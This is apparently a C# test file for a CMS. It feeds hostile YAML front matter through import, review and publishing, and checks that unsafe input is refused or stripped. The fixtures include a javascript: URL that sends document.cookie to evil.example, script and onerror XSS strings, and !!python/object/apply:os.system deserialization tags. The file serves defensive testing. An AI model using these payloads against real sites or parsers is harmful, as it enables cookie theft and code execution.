using System.Text;
using System.Text.Json;
using Cms.Application.Importing;
using Cms.Application.Items;
using Cms.Application.Publishing;
using Cms.Core.FrontMatter;
using Cms.Core.Items;
using Cms.Data;
using Cms.Data.Entities;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Cms.Application.Tests;

// "What is published is what was reviewed": every file of a hostile corpus is either refused at
// import (naming line and field) or goes through review and publication, and then the published
// file reads, in PyYAML (YAML 1.1, pure and libyaml) and in YamlDotNet's YAML 1.2 deserializer,
// exactly as the CMS reads it; its fields are the ones the item page showed (the database); its
// unknown fields are the source's; no unsafe URL is in it.
public sealed class HostileCorpusPublishingTests(ApplicationFixture app) : IClassFixture<ApplicationFixture>
{
    private static readonly string[] KnownFields =
        ["title", "excerpt", "category", "type", "originalUrl", "webUrl", "quality", "heat", "published", "publishedDateTime", "provider", "topics", "images", "related"];

    // Files the reader must refuse: (body after title and originalUrl, line, field, reason).
    private static readonly (string Body, int Line, string Field, string Reason)[] Refused =
    [
        ("<<: {related: [{title: evil, webUrl: \"javascript:fetch('https://evil.example/?c='+document.cookie)\"}], excerpt: \"<script>alert(1)</script>\"}\n", 4, "<<", "merge keys (<<) are not allowed"),
        ("\"<<\": {excerpt: \"<script>alert(1)</script>\"}\n", 4, "<<", "merge keys (<<) are not allowed"),
        ("related:\n  - title: fine\n    webUrl: \"https://fine.example/\"\n    <<: {webUrl: \"javascript:alert(1)\"}\n", 7, "related[0].<<", "merge keys (<<) are not allowed"),
        ("hook: !!python/name:os.system\n", 4, "hook", "the tag !!python/name:os.system is not allowed"),
        ("run: !!python/object/apply:os.system [\"id\"]\n", 4, "run", "is not allowed"),
        ("blob: !!binary aGVsbG8=\n", 4, "blob", "the tag !!binary is not allowed"),
        ("count: 123456789012345678901234567890\n", 4, "count", "outside the 64-bit range"),
        ("day: 2001-02-30\n", 4, "day", "not a valid date and time"),
        ("!!int 7: seven\n", 4, "7", "mapping keys must be strings"),
    ];

    // Files that are published: odd types in known fields, YAML 1.1 traps in unknown ones, hostile
    // URLs, titles and characters. {u} is replaced by a unique tag.
    private static readonly string[] Accepted =
    [
        """
        ---
        title: yes
        originalUrl: "https://news.example/{u}/bool-title"
        excerpt: 0x10
        category: on
        type: 1:20
        quality: 039
        heat: +7
        published: false
        publishedDateTime: 2023-11-27 16:06:00Z
        provider: {name: off, domain: 010}
        topics: [yes, 2024, " spaced ", "e\u0301te\u0301"]
        """ + "\n" + HostileYaml.KeyTraps + """
        values: [yes, no, on, off, y, n, 0o17, 0x1F, 010, 1_000, 1:20, 190:20:30, 2001-12-14, 2001-12-14 21:59:43.10 -5, 2001-1-1, .NaN, .inf, -.inf, 1e5, -.5, 1., =, ~, null, "", 0b101, 9223372036854775807, True, FALSE, "<<"]
        tagged: [!!str 12, !!str yes, !!int "12", !!float "1", !!bool "True", !!null "", !!timestamp "2001-12-14"]
        secured: 3e+/AbC==;9xYz/+==
        ---
        """,
        """
        ---
        title: "Headline \u202Egnp.exe\u200B with bidi override and zero width — 東京 😀"
        originalUrl: "https://news.example/{u}/unicode"
        webUrl: "https://news.example/{u}/unicode?ref=cms"
        excerpt: "<p>Fine</p><script>alert(1)</script>"
        quality: 55
        published: false
        images:
          - url: "javascript:alert(1)"
          - url: "data:image/png;base64,iVBORw0KGgo="
          - url: "http:no-host"
          - url: "//cdn.example/protocol-relative.jpg"
          - url: yes
          - url: "https://img.example/{u}/ok.jpg"
            width: 0512
            height: 010
          - url: "HTTPS://IMG.EXAMPLE/{u}/upper.jpg"
        related:
          - title: "Approved \u202Eevil\u200B link"
            webUrl: "https://other.example/{u}/approved"
            ampWebUrl: "javascript:alert('amp')"
            cdnAmpWebUrl: "https://cdn.example/{u}/amp"
            excerpt: "<img src=x onerror=alert(1)>"
            quality: 010
            publishedDateTime: "2023-11-27T16:06:00Z"
            provider: {name: yes, domain: other.example}
            images:
              - url: "data:image/svg+xml;base64,PHN2Zz4="
              - url: "javascript:alert(2)"
              - url: "https://other.example/{u}/pic.jpg"
          - title: "Script link"
            webUrl: "javascript:fetch('https://evil.example/?c='+document.cookie)"
          - title: "Data link"
            webUrl: "data:text/html,<script>alert(1)</script>"
          - title: "reject me"
            webUrl: "https://propaganda.example/{u}"
          - title: 2024
            webUrl: "https://other.example/{u}/second"
        carried:
          nel: "a\x85b"
          ls: "a\u2028b"
          del: "a\x7fb"
          esc: "a\x1bb"
          crlf: "a\r\nb"
          tab: "a\tb"
          bom: "a\ufeffb"
          long: "{long}"
          nested: {deep: [[[x]]], empty: {}, list: []}
        ---
        """,
    ];

    private Task<Outcome> MoveManyAsync(Actor actor, IReadOnlyList<long> ids, WorkflowAction action) =>
        app.RunAsync(s => s.GetRequiredService<ItemTransitions>().HandleManyAsync(actor, ids, action, null, CancellationToken.None));

    [Fact]
    public async Task Every_file_is_refused_naming_line_and_field_or_published_as_the_cms_showed_it_for_yaml_1_1_and_1_2_readers()
    {
        var tag = Unique.Tag();
        var files = new List<ImportFile>();
        for (var i = 0; i < Refused.Length; i++)
        {
            var text = $"---\ntitle: refused {i}\noriginalUrl: \"https://news.example/{tag}/refused-{i}\"\n{Refused[i].Body}---\n";
            files.Add(ImportSources.FromBytes($"refused-{tag}-{i}.txt", Encoding.UTF8.GetBytes(text)));
        }
        var accepted = Accepted.Select(a => a.Replace("{u}", tag, StringComparison.Ordinal).Replace("{long}", new string('x', 50_000), StringComparison.Ordinal)).ToList();
        var generator = new ItemFileGenerator(seed: 18);
        accepted.AddRange(Enumerable.Range(0, 30).Select(i => generator.Next(i).Replace("https://news.example/", $"https://news.example/{tag}/", StringComparison.Ordinal)));
        for (var i = 0; i < accepted.Count; i++)
        {
            files.Add(ImportSources.FromBytes($"accepted-{tag}-{i:D2}.txt", Encoding.UTF8.GetBytes(accepted[i])));
        }

        var outcome = await app.RunAsync(s => s.GetRequiredService<ItemImporter>().ImportAsync(Actors.Pipeline, files, null, CancellationToken.None));

        Assert.True(outcome.Succeeded, outcome.Result.Message);
        var problems = outcome.Value!.Problems.ToDictionary(p => p.Path);
        Assert.Equal(Refused.Length, problems.Count);
        for (var i = 0; i < Refused.Length; i++)
        {
            var problem = problems[$"refused-{tag}-{i}.txt"].Reason;
            Assert.Contains($"line {Refused[i].Line}", problem);
            Assert.Contains($"field '{Refused[i].Field}'", problem);
            Assert.Contains(Refused[i].Reason, problem);
        }

        // Review: every safe link approved but one, rejected; unsafe links stay rejected. An editor
        // marks them ready, a publisher publishes, the worker writes.
        var ids = app.Read(db => db.Items.Where(i => i.FileName.StartsWith($"accepted-{tag}-")).OrderBy(i => i.FileName).Select(i => i.Id).ToList());
        Assert.Equal(accepted.Count, ids.Count);
        app.Read(db => db.RelatedLinks.Where(l => ids.Contains(l.ItemId)).ExecuteUpdate(u => u
            .SetProperty(l => l.Decision, l => l.IsSafeUrl && l.Title != "reject me" ? LinkDecision.Approved : LinkDecision.Rejected)));
        Assert.True((await MoveManyAsync(Actors.Editor(), ids, WorkflowAction.MarkReady)).Succeeded);
        Assert.True((await MoveManyAsync(Actors.Publisher(), ids, WorkflowAction.Publish)).Succeeded);
        while (await app.RunAsync(s => s.GetRequiredService<PublishWorker>().RunOnceAsync("test-worker", CancellationToken.None)) > 0)
        {
        }

        var items = app.Read(db => db.Items.AsNoTracking().Where(i => ids.Contains(i.Id)).OrderBy(i => i.Id).ToList());
        Assert.All(items, i => Assert.Equal(WorkflowState.Published, i.State));
        var paths = items.Select(i => Path.Combine(app.PublishFolder, i.OutputFile!)).ToList();
        var pyyaml = await YamlReaders.PyYamlAsync(paths);
        var reader = new YamlFrontMatterReader();
        foreach (var (item, path) in items.Zip(paths))
        {
            var text = await File.ReadAllTextAsync(path);
            var published = reader.ReadText(path, text);
            var cms11 = YamlReaders.Cms(published.Root, YamlReaders.Schema.Yaml11);

            Assert.Equal(cms11, pyyaml[path].Pure);
            Assert.Equal(cms11, pyyaml[path].LibYaml);
            Assert.Equal(YamlReaders.Cms(published.Root, YamlReaders.Schema.Yaml12), YamlReaders.YamlDotNet12(text));
            AssertShownByTheCms(item, ItemParser.Validate(published));
            var source = reader.ReadText(item.FileName, "---\n" + item.SourceYaml + "---\n").Root;
            Assert.Equal(Unknown(source), Unknown(published.Root));
        }
        // The URLs the page hid are nowhere in the output.
        var all = string.Concat(paths.Select(File.ReadAllText));
        foreach (var unsafeUrl in new[] { "javascript:alert(", "javascript:fetch(", "data:image", "data:text", "http:no-host", "protocol-relative", "propaganda.example" })
        {
            Assert.DoesNotContain(unsafeUrl, all, StringComparison.OrdinalIgnoreCase);
        }
    }

    // The fields of the published file are what the item page showed: the item's row, its topics,
    // its images and its approved related links, in order.
    private void AssertShownByTheCms(Item item, ParsedItem published)
    {
        var topics = app.Read(db => db.ItemTopics.Where(t => t.ItemId == item.Id).OrderBy(t => t.Position).Select(t => t.Topic!.Name).ToList());
        var links = app.Read(db => db.RelatedLinks.AsNoTracking().Where(l => l.ItemId == item.Id && l.Decision == LinkDecision.Approved).OrderBy(l => l.Position).ToList());
        var images = JsonSerializer.Deserialize<List<ParsedImage>>(item.ImagesJson ?? "[]")!;

        Assert.Equal(item.Title, published.Title);
        Assert.Equal(item.Excerpt, published.Excerpt);
        Assert.Equal(item.Category, published.Category);
        Assert.Equal(item.Type, published.Type);
        Assert.Equal(item.ProviderName, published.ProviderName);
        Assert.Equal(item.ProviderDomain, published.ProviderDomain);
        Assert.Equal(item.PublishedAt, published.PublishedAt);
        Assert.Equal(item.OriginalUrl, published.NormalizedUrl);
        Assert.Equal(item.WebUrl, published.WebUrl);
        Assert.Equal(item.Quality, published.Quality);
        Assert.Equal(item.Heat, published.Heat);
        Assert.True(published.Published);
        Assert.Equal(topics, published.Topics);
        Assert.Equal(images, published.Images);
        Assert.Equal(
            links.Select(l => (l.Url, l.Title, l.Excerpt, l.ProviderName, l.ProviderDomain, l.PublishedAt, l.Quality, l.ImageUrl)),
            published.Related.Select(r => (r.Url, r.Title, r.Excerpt, r.ProviderName, r.ProviderDomain, r.PublishedAt, r.Quality, r.ImageUrl)));
        Assert.All(published.Related, r => Assert.True(r.IsSafeUrl));
    }

    private static string Unknown(SourceMapping root) =>
        YamlReaders.Cms(root with { Entries = root.Entries.Where(e => !KnownFields.Contains(e.Key)).ToList() }, YamlReaders.Schema.Yaml11);
}
